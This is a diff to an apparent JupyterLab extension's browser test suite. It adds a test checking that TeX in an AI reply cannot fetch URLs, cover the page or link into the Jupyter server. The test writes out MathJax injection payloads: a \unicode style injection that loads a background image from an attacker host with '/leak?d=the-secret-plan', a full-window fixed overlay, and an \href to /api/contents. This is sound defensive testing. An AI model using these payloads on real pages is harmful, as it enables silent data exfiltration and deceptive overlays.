@@ -9,7 +9,9 @@ by every door that shows such text: a streamed reply, a final one, a replayed ca
 result's details, the panel's bubbles, ``%ygpt history`` of a loaded chat file, ``%ygpt
 provenance`` of a hostile notebook and ``--dry-run``. Each payload would set ``window.__pwned``
 and call the Jupyter server's ``/api/``; neither may happen, and every payload must be readable
-on the page as text. Math still typesets (MathJax renders the inert HTML's ``$…$``).
+on the page as text. Math still typesets (MathJax renders the inert HTML's ``$…$``), but only
+plain math: TeX that would fetch a URL, draw over the page or link into the Jupyter server is
+shown as written, and so is a ``$`` in text that is not math.
 """
 
 from __future__ import annotations
@@ -18,6 +20,7 @@ import json
 from pathlib import Path
 
 import pytest
+from capture import HttpCapture
 from test_browser import notebook_page, sync_playwright  # noqa: F401 (the fixture)
 
 from ygpt_magic.emulator import start_local_server
@@ -120,3 +123,47 @@ def test_no_door_lets_a_reply_file_or_metadata_run_in_jupyterlab(sync_playwright
             bubbles = "\n".join(panel.locator(".ygpt-bubble").all_inner_texts())
             assert PAYLOADS[0] in bubbles and "window.__pwned=9" in bubbles, bubbles
             assert outputs[1].locator("mjx-container").count() >= 1, "math is typeset"
+
+
+MATH_PROMPT = "Summarise the review with formulas."
+#: plain math: each typesets
+PLAIN_MATH = [r"$E = mc^2$", r"$\frac{a}{b}$", r"$$\sum_{i=1}^{n} i$$",
+              r"$$\begin{pmatrix} 1 & 2 \\ 3 & 4 \end{pmatrix}$$"]
+
+
+def hostile_math(attacker: str) -> list[str]:
+    """TeX that MathJax's safe extension lets through: a zero-click fetch and a full-window box
+    (``\\unicode``'s font goes into a style as written), a link into the Jupyter server, and the
+    fetch again in ``$ … $``, which is text to Markdown (a space after ``$``) but math to MathJax."""
+    fetch = rf"\unicode[x; background-image:url({attacker}/leak?d=the-secret-plan)]{{x41}}"
+    return [f"${fetch}$",
+            r"$\unicode[x; position:fixed; top:0; left:0; width:100vw; height:100vh; z-index:99999]{x42}$",
+            r"$\href{/api/contents}{see the file}$", rf"\({fetch}\)", f"$ {fetch} $"]
+
+
+def test_tex_in_a_reply_fetches_nothing_covers_nothing_and_links_nowhere(sync_playwright, tmp_path):
+    with HttpCapture() as attacker:  # another server: the page must never call it by itself
+        hostile = hostile_math(attacker.url)
+        reply = "\n\n".join(["The customer is happy.", *PLAIN_MATH, *hostile, "It costs $5 and $10."])
+        script = tmp_path / "script.json"
+        script.write_text(json.dumps({"replies": [{"user": MATH_PROMPT, "reply": reply}]}), encoding="utf-8")
+        with start_local_server(scripts=[script]) as server:
+            cells = [f"%load_ext ygpt_magic\n%ygpt connect {server.address} --insecure",
+                     f"%%ygpt --once\n{MATH_PROMPT}"]
+            with notebook_page(sync_playwright, tmp_path, cells) as page:
+                output = page.locator(".jp-Notebook .jp-Cell").nth(1).locator(OUTPUT)
+                output.filter(has_text="It costs").first.wait_for(timeout=60_000)
+                output.locator("mjx-container").nth(len(PLAIN_MATH) - 1).wait_for()
+                page.wait_for_timeout(2000)  # MathJax done, any fetch made
+                shown = "\n".join(output.all_inner_texts())
+                styles = output.locator("mjx-container [style]").evaluate_all(
+                    "found => found.map(e => e.getAttribute('style'))")
+                links = output.locator("a[href]").evaluate_all("found => found.map(a => a.getAttribute('href'))")
+                typeset = output.locator("mjx-container").count()
+        assert not attacker.seen, f"the page called another server by itself: {attacker.seen}"
+        assert not [style for style in styles if "url(" in style or "fixed" in style], styles
+        assert links == [], "no link, into the Jupyter server or anywhere"
+        assert typeset == len(PLAIN_MATH), "the plain math is typeset, the rest is not"
+        for written in [r"\unicode[x; background-image:url(", r"\unicode[x; position:fixed",
+                        r"\href{/api/contents}{see the file}", "It costs $5 and $10."]:
+            assert written in shown, f"not readable as written: {written}"
